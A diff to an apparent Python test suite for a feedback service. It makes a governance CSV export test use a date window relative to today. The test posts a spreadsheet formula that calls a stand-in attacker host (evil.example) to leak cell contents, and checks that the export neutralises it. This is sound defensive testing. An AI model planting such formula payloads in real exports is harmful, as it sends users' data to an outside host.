@@ -1,6 +1,7 @@
 """Hostile review, feedback storage (issue 15, items 4, 6, 8 and 9): posts that used to sleep on a request
 thread, overflow, or get a 503 forever (a contract-following client retries a 503 for ever), on SQLite and on
 the real PostgreSQL. Each test's docstring names the attack."""
+import datetime
 import threading
 import time
 import uuid
@@ -194,7 +195,8 @@ def test_a_formula_posted_as_an_override_reason_is_text_in_the_governance_csv(cl
     formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
     assert post_feedback(client, [overridden(cards["steroid-duration"], code=formula),
                                   overridden(cards["steroid-duration"], code="@SUM(1+1)", when="2026-11-24T10:06:00Z")]).status_code == 200
-    response = client.get("/governance?format=csv&from=2026-11-01&to=2026-11-30")
+    today = datetime.datetime.now(datetime.timezone.utc).date()     # the cards were issued today: the window holds them
+    response = client.get(f"/governance?format=csv&from={today - datetime.timedelta(days=28)}&to={today}")
     items = {r["item"] for r in csv.DictReader(io.StringIO(response.get_data(as_text=True))) if r["section"] == "override_reason"}
     assert items == {"'" + formula, "'@SUM(1+1)"}
 
